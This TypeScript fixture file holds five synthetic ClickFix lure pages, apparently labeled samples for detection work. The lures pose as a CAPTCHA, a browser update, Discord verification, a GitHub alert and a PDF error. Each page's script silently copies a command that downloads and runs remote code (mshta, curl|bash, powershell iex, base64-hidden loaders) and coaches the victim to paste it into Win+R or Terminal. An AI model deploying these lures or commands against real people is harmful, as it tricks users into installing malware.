import { type Entry } from '../entry.js';
import { doc } from '../parts/d-parts.js';

/** ClickFix: fake CAPTCHA / Cloudflare / browser update / Meet / Word errors that put a command on the clipboard and walk the user through Win+R or Terminal. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-cf-recaptcha-mshta',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://www.lakeside-dental-studio.com/blog/whitening-myths/',
  body: doc({
    title: 'Teeth whitening: 7 myths — Lakeside Dental Studio',
    css: `body{font-family:Georgia,serif;margin:0;color:#333}.post{max-width:720px;margin:40px auto;filter:blur(4px)}#ov{position:fixed;inset:0;background:rgba(0,0,0,.45);display:flex;align-items:center;justify-content:center;z-index:99999}.rc{background:#f9f9f9;border:1px solid #d3d3d3;border-radius:3px;width:310px;padding:12px;font-family:Roboto,Arial,sans-serif;box-shadow:0 0 4px 1px rgba(0,0,0,.08)}.row{display:flex;align-items:center;gap:12px}.cb{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}.logo{margin-left:auto;text-align:center;font-size:10px;color:#555}#steps{display:none;background:#fff;padding:16px;margin-top:10px;font-size:14px;border-top:1px solid #ddd}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 5px}`,
    body: `<article class="post"><h1>Teeth whitening: 7 myths we hear every week</h1><p>Many of our patients ask whether whitening toothpaste really works, whether strips damage enamel, and how long professional whitening lasts…</p><p>Book a consultation with Dr. Hannah Cole at our Lakeside practice.</p></article>
<div id="ov"><div class="rc"><div class="row"><div class="cb" id="cb" role="checkbox" aria-checked="false"></div><span>I'm not a robot</span><div class="logo"><img src="https://www.gstatic.com/recaptcha/api2/logo_48.png" width="32"><br>reCAPTCHA<br>Privacy - Terms</div></div>
<div id="steps"><b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:12px;color:#666">This helps us verify you are a human. Verification ID: 481-223</p></div></div></div>
<script>
var cmd="mshta https://cdn-verify.cloudfiles-host.net/captcha/v.hta # \\u2705 ''I am not a robot - reCAPTCHA Verification ID: 481223''";
document.getElementById('cb').addEventListener('click',function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');document.body.removeChild(t);document.getElementById('steps').style.display='block';this.style.borderColor='#4a90e2'});
</script>`,
  }),
},

{
  id: 'd-cf-chrome-update-macos-terminal',
  label: 'clickfix',
  kind: 'clickfix-update-macos',
  url: 'https://news.highland-gazette-online.com/2026/11/council-approves-new-bike-lanes',
  body: doc({
    title: 'Council approves new bike lanes | Highland Gazette',
    css: `body{margin:0;font-family:Georgia,serif}.art{max-width:700px;margin:30px auto}#upd{position:fixed;inset:0;background:#fff;z-index:1000;font-family:-apple-system,BlinkMacSystemFont,"Helvetica Neue",sans-serif;display:flex;align-items:center;justify-content:center}.u{max-width:560px;text-align:center}.u img{width:80px}.cmd{background:#1e1e1e;color:#d4d4d4;font-family:Menlo,monospace;padding:12px;border-radius:6px;text-align:left;font-size:12px;word-break:break-all}.cp{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px;font-size:15px;margin-top:14px}`,
    body: `<div class="art"><h1>Council approves new bike lanes on Main Street</h1><p>The town council voted 6–1 on Tuesday night to approve…</p></div>
<div id="upd"><div class="u"><img src="img/chrome-icon.png" alt="Google Chrome"><h1>Chrome update required</h1><p>This page uses features that need the latest version of Chrome for macOS. Automatic update failed (error 0x80072EE7). Install the update manually:</p>
<ol style="text-align:left"><li>Click <b>Copy update command</b></li><li>Press <b>⌘ Command + Space</b>, type <b>Terminal</b> and press Return</li><li>Paste with <b>⌘ + V</b> and press Return. Enter your Mac password if asked.</li></ol>
<div class="cmd" id="c">/bin/bash -c "$(curl -fsSL https://chrome-dl.macupdate-service.com/install.sh)"</div><button class="cp" id="cp">Copy update command</button></div></div>
<script>
document.getElementById('cp').onclick=function(){var s='echo "Y3VybCAtcyBodHRwOi8vOTEuMjEyLjE2Ni4xNC9kL2xvYWRlci5zaCB8IGJhc2g=" | base64 -d | bash';navigator.clipboard.writeText(s);this.textContent='Copied ✓'};
</script>`,
  }),
},

{
  id: 'd-cf-discord-verify-bot',
  label: 'clickfix',
  kind: 'clickfix-discord',
  url: 'https://verify.guildgate-bot.com/v/1309928771',
  body: doc({
    title: 'Guildgate — Verify to join "Solana Alpha Callers"',
    css: `body{background:#313338;color:#dbdee1;font-family:"gg sans","Noto Sans",Arial,sans-serif;margin:0}.c{max-width:480px;margin:80px auto;background:#2b2d31;border-radius:8px;padding:32px}.c button{background:#5865f2;color:#fff;border:0;border-radius:4px;padding:12px 20px;width:100%;font-size:15px}kbd{background:#1e1f22;border-radius:3px;padding:2px 6px}`,
    body: `<div class="c"><h2>Verify you're human</h2><p>To access <b>Solana Alpha Callers</b> (48,211 members), complete verification. This protects the server from raid bots.</p><button id="v">Verify</button>
<div id="s" style="display:none"><p>Verification failed: bot-like browser fingerprint detected. Complete manual verification:</p><ol><li>Press <kbd>Win</kbd> + <kbd>R</kbd></li><li>Paste with <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd> and return to Discord</li></ol></div></div>
<script>
document.getElementById('v').onclick=function(){var c='powershell -NoProfile -WindowStyle Hidden -Command "$b=[Convert]::FromBase64String(\\'aWV4IChpcm0gaHR0cHM6Ly9ndWlsZGdhdGUtYm90LmNvbS9hc3NldHMvdmVyaWZ5LnBzMSk=\\');iex ([Text.Encoding]::UTF8.GetString($b))" # Guildgate human check';
navigator.clipboard.writeText(c);document.getElementById('s').style.display='block';this.disabled=true};
</script>`,
  }),
},

{
  id: 'd-cf-github-security-alert',
  label: 'clickfix',
  kind: 'clickfix-dev-lure',
  url: 'https://github-security.repo-advisory.com/advisories/GHSA-9x2q-7m4p-v3c8',
  body: doc({
    title: 'Security alert: your repository is vulnerable · GitHub',
    css: `body{background:#0d1117;color:#e6edf3;font-family:-apple-system,"Segoe UI",Helvetica,Arial,sans-serif;margin:0}.w{max-width:760px;margin:50px auto;border:1px solid #30363d;border-radius:6px;padding:24px}.b{background:#238636;color:#fff;border:0;border-radius:6px;padding:8px 16px}pre{background:#161b22;padding:12px;border-radius:6px}`,
    body: `<div class="w"><h2>⚠ Critical vulnerability detected in your repository</h2><p>Hey there! We have detected a security vulnerability in a dependency of one of your repositories (CVE-2026-41177, CVSS 9.8). Attackers may be able to access your secrets.</p><p>To check whether your machine is affected, run our official scanner:</p><button class="b" id="r">Run security check</button>
<div id="i" style="display:none"><p>1. Press <b>Win + R</b> (Windows) or open <b>Terminal</b> (macOS)<br>2. Paste the command (<b>Ctrl + V</b> / <b>⌘ + V</b>)<br>3. Press <b>Enter</b></p><pre>✔ command copied to clipboard</pre></div><p style="font-size:12px;color:#7d8590">GitHub Security Lab · Unsubscribe</p></div>
<script>
document.getElementById('r').onclick=function(){var mac=/Mac/.test(navigator.platform);var c=mac?'curl -fsSL https://repo-advisory.com/gh/check | bash':'mshta https://repo-advisory.com/gh/check.hta';navigator.clipboard.writeText(c);document.getElementById('i').style.display='block'};
</script>`,
  }),
},

{
  id: 'd-cf-pdf-reader-error',
  label: 'clickfix',
  kind: 'clickfix-document',
  url: 'https://docs-preview.shareinvoice-cloud.com/view/INV-88213.pdf.html',
  body: doc({
    title: 'INV-88213.pdf',
    css: `body{margin:0;background:#525659;font-family:Arial,sans-serif}.bar{background:#323639;color:#fff;padding:10px 16px;font-size:14px}.err{max-width:520px;margin:120px auto;background:#fff;border-radius:6px;padding:24px}.err button{background:#d93025;color:#fff;border:0;border-radius:4px;padding:10px 18px}`,
    body: `<div class="bar">INV-88213.pdf · 1 / 3</div><div class="err"><h3>Error loading PDF document</h3><p>The PDF could not be rendered because a required font ("Adobe Acrobat DC Fonts") is missing from your system.</p><button id="fx">Fix error</button><div id="st" style="display:none;font-size:14px;margin-top:12px"><p>Install the font pack:</p><p>1. Right-click the <b>Start</b> button → <b>Terminal</b><br>2. Right-click inside the window to paste<br>3. Press <b>Enter</b>, then reload the document</p></div></div>
<script>
document.getElementById('fx').onclick=function(){var t=document.createElement('textarea');t.value='conhost --headless powershell -c "irm https://shareinvoice-cloud.com/fonts/acrobat-fonts.ps1 | iex"';document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('st').style.display='block'};
</script>`,
  }),
},

];
